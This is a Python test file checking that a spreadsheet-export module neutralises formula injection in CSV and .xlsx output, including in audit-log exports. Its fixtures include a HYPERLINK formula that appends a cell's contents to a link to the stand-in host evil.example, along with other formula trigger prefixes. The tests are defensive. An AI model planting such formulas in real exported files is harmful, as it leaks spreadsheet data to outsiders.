"""Spreadsheet cells stay text (hdnd.content.core.cells): formula-like text
is never a formula in an .xlsx or a .csv, and reads back as written."""

from hdnd.content.core import cells

import csv
import io
import pytest


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
            "＝1+1", "'=1", "'", "''x"]
PLAIN = ["Hồ sơ", "", "a=b", "1-2", None, 5, -5, 1.5]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_an_apostrophe_in_csv_and_reads_back(text):
    cell = cells.csv_cell(text)
    assert cell.startswith("'")
    assert cells.csv_value(cell) == text


@pytest.mark.parametrize("value", PLAIN)
def test_other_values_are_unchanged(value):
    assert cells.csv_cell(value) == value
    assert cells.csv_value(value) == value


def test_xlsx_cells_are_strings_and_read_back_unchanged():
    from openpyxl import Workbook
    from openpyxl import load_workbook

    book = Workbook()
    cells.append(book.active, FORMULAS[:7] + ["plain", 3])
    row = list(book.active[1])
    assert {c.data_type for c in row[:7]} == {"s"} and all(c.quotePrefix for c in row[:7])
    assert row[8].data_type == "n"
    out = io.BytesIO()
    book.save(out)
    assert b"<f>" not in out.getvalue()
    read = load_workbook(io.BytesIO(out.getvalue()), data_only=True).active
    assert [c.value for c in read[1]] == FORMULAS[:7] + ["plain", 3]


def test_audit_csv_neutralises_and_still_verifies():
    from hdnd.content.core import audit

    entries, previous = [], None
    for actor in ['=HYPERLINK("http://x","y")', "@admin", "'=x", "cv-a"]:
        previous = audit.make_entry(previous, "login_failed", actor, details={"login": actor})
        entries.append(previous)
    text = audit.to_csv(entries)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][2] == "'" + '=HYPERLINK("http://x","y")'
    assert rows[2][2] == "'@admin"
    back = audit.read_csv(io.StringIO(text))
    assert [e.actor for e in back] == [e.actor for e in entries]
    assert audit.verify(back) == []
